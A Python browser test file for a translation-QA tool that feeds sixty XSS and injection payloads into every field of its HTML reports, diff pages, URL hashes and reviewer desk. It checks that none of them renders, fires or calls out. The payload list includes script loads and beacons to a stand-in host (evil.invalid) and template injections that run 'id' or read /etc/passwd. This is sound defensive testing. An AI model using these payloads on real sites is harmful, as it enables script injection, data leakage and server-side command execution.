"""Sixty hostile strings in every slot of the pages: no dialog, request, breach or mark-up."""

import json
from dataclasses import replace
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from click.testing import CliRunner

import mtqa
from mtqa.cli.diff import diff
from mtqa.model.finding import Finding, Fix, Safety
from mtqa.model.result import FileResult, Run
from mtqa.reporting.html import render
from mtqa.reporting.volumes import pages

pytestmark = pytest.mark.browser

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.invalid/x.js></SCRIPT>",
    "</script><script>alert(1)</script>",
    "</script ><script>alert(1)</script>",
    "<!--<script>",
    "--><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</option></select><img src=x onerror=alert(1)>",
    "</template><img src=x onerror=alert(1)>",
    "</p></div></article></main><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<IMG SRC=x ONERROR=&#97;lert(1)>",
    "<img src='https://evil.invalid/pixel.gif'>",
    "<svg onload=alert(1)>",
    "<svg><script href='https://evil.invalid/x.js'/></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg onload=alert(1)>'/></svg>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<embed src='https://evil.invalid/x'>",
    "<object data='https://evil.invalid/x'></object>",
    "<audio src=x onerror=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<form action='https://evil.invalid/'><button>send</button></form>",
    "<button popovertarget=x onclick=alert(1)>press</button>",
    "<dialog open onclose=alert(1)>x</dialog>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a ping='https://evil.invalid/' href='#'>x</a>",
    "<base href='https://evil.invalid/'>",
    "<link rel=stylesheet href='https://evil.invalid/x.css'>",
    "<link rel=preload as=image href='https://evil.invalid/x.png'>",
    "<meta http-equiv=refresh content='0;url=https://evil.invalid/'>",
    "<style>@import 'https://evil.invalid/x.css';</style>",
    "<style>*{background:url(https://evil.invalid/x)}</style>",
    '" style="background:url(https://evil.invalid/x)',
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "' onmouseover='alert(1)' autofocus onfocus='alert(1)",
    '" autofocus onfocus="alert(1)',
    "` onfocus=alert(1) autofocus `",
    "x onload=alert(1) y",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "{{ cycler.__init__.__globals__.os.popen('id') }}",
    "{% include '/etc/passwd' %}{# x #}",
    "${alert(1)}`${alert(1)}`",
    "__proto__",
    "\u202e</p><script>alert(1)</script>\u2028\u2029\x00\ufeff",
]
FOREIGN = (
    "img, iframe, embed, object, audio, video, math, base, link, marquee, template template,"
    " [onerror], [onload], [onfocus], [style], a[href]:not([href^='#'])"
)


def test_there_are_sixty_of_them() -> None:
    assert len(set(PAYLOADS)) == 60


def hostile(finding: Finding, payload: str) -> Finding:
    fixes = tuple(poisoned(fix, payload) for fix in finding.fixes)
    words = {"message": payload, "mqm": payload, "rule": payload, "text": payload}
    return replace(finding, fixes=fixes, refused=(payload,), provider=payload, **words)


def poisoned(fix: Fix, payload: str) -> Fix:
    edits = tuple(replace(edit, replacement=payload) for edit in fix.repair.edits)
    repair = replace(fix.repair, edits=edits, title=payload)
    return Fix(payload, Safety.SUGGESTED, fix.edits, repair)


@pytest.fixture(scope="module")
def run() -> tuple[Run, dict[str, str]]:
    """Stories whose every word, name, note, error, source, rule, message and fix is hostile."""
    results: list[FileResult] = []
    why: dict[str, str] = {}
    for payload in PAYLOADS:
        text = f"{payload} and the the end."
        story = mtqa.check(text, source=[payload], settings={"select": ["repeated-word"]})
        findings = tuple(hostile(finding, payload) for finding in story.findings)
        why |= {finding.rule: payload for finding in findings}
        hurt = {"path": payload, "notes": (payload,), "errors": (payload,), "format": payload}
        results.append(replace(story, findings=findings, **hurt))
    assert sum(len(story.findings) for story in results) == len(PAYLOADS)
    return Run(tuple(results), "1.2.3", "abcdef", errors=tuple(PAYLOADS)), why


@pytest.mark.parametrize("javascript", [True, False])
def test_in_the_report(watch: Any, run: tuple[Run, dict[str, str]], javascript: bool) -> None:
    seen = watch(render(run[0], rules=run[1]), java_script_enabled=javascript)
    if javascript:
        seen.press("m", "j", *"aeau", "r", "1", "?", "Escape", "f")
        for button in seen.page.locator(".meta a:visible").all()[:8]:
            button.click()
    assert seen.page.locator(FOREIGN).count() == 0
    assert seen.page.locator("h2", has_text="<svg onload=alert(1)>").count() >= 1
    assert seen.heard == []


def test_on_an_index_of_pages(watch: Any, run: tuple[Run, dict[str, str]]) -> None:
    made = pages(run[0], "\"><img src=x onerror=alert(1)>'.html", rules=run[1], most=30)
    assert len(made) == 3
    for page in made.values():
        seen = watch(page)
        assert seen.page.locator("img, iframe, object, [onerror]").count() == 0
        assert seen.heard == []


def test_between_two_versions(watch: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    Path("a.txt").write_bytes("\n\n".join(PAYLOADS[::2]).replace("\0", "").encode())
    Path("b.txt").write_bytes("\n\n".join(PAYLOADS[1::2]).replace("\0", "").encode())
    ran = CliRunner().invoke(diff, ["a.txt", "b.txt", "--isolated"])
    assert ran.exit_code == 0, ran.output
    seen = watch(Path("diff.html").read_text("utf-8"))
    seen.press("j", "j", "m", "v")
    assert seen.page.locator(FOREIGN).count() == 0
    assert seen.heard == []


def test_in_the_address(watch: Any) -> None:
    seen = watch(render(Run((mtqa.check("It was the the end."),), "1")))
    places = [f"#{it}?q={it}&rule={it}&story={it}" for it in map(quote, PAYLOADS)]
    visit = """places => places.reduce((last, place) => last.then(() => new Promise(done => {
      addEventListener("hashchange", done, {once: true});
      location.hash = place;
    })), Promise.resolve())"""
    seen.page.evaluate(visit, places)
    assert seen.page.input_value("[name=q]") == PAYLOADS[-1].strip()
    assert seen.page.locator(FOREIGN).count() == 0
    assert seen.heard == []


def test_as_the_reviewer_the_note_and_the_wording(desk: Any, tmp_path: Path) -> None:
    for payload in PAYLOADS:
        desk.page.evaluate("name => localStorage.setItem('mtqa:reviewer', name)", payload)
        desk.press("j", "e")
        desk.page.keyboard.insert_text(payload)
        desk.press("Enter", "k", "r")
        desk.page.locator(".reasons input").fill(payload)
        desk.press("Enter", "3")
    desk.page.reload()
    made = desk.exported(tmp_path / "decisions.json")
    assert {one["reviewer"] for one in made["decisions"]} == {PAYLOADS[-1]}
    assert desk.page.locator(FOREIGN).count() == 0
    assert desk.heard == []


def test_in_a_file_of_decisions(desk: Any, tmp_path: Path) -> None:
    desk.press("j", "a")
    good = desk.exported(tmp_path / "good.json")
    (one,) = good["decisions"]
    files = []
    for number, payload in enumerate(PAYLOADS):
        words = {"reviewer": payload, "note": payload, "after": payload, "title": payload}
        made = {**one, **words, "decision": "edit"}
        strange = {**one, "id": payload, "doc": payload, "rule": payload, "before": payload}
        path = tmp_path / f"{number}.json"
        path.write_text(json.dumps({**good, "tool": payload, "decisions": [made, strange]}))
        files.append(path)
    desk.press("u")
    assert "60 are not about the findings on this page" in desk.bring(*files)
    desk.press("j")
    assert desk.page.locator(".voices li").count() == 60
    desk.page.locator(".voices button").nth(12).click()
    assert desk.page.locator(FOREIGN).count() == 0
    assert desk.heard == []


@pytest.mark.parametrize(
    ("text", "told"),
    [
        ("{", "it is no JSON"),
        ("[]", "it does not say that it is mtqa-decisions/1"),
        ('{"schema": "mtqa-decisions/1"}', "it has no decisions or no documents"),
        (
            '{"schema": "mtqa-decisions/1", "documents": {}, "decisions": [{"id": 1}]}',
            "decision 1 is not one",
        ),
    ],
)
def test_what_is_no_file_of_decisions_is_told(desk: Any, text: str, told: str) -> None:
    for name in ("<img src=x onerror=alert(1)>.json", "x.json"):
        file = {"name": name, "mimeType": "application/json", "buffer": text.encode()}
        assert f"{name} is no file of decisions: {told}" in desk.bring(file)
    assert desk.page.locator("#decided").inner_text() == f"0 of {desk.count}"
    assert desk.heard == []
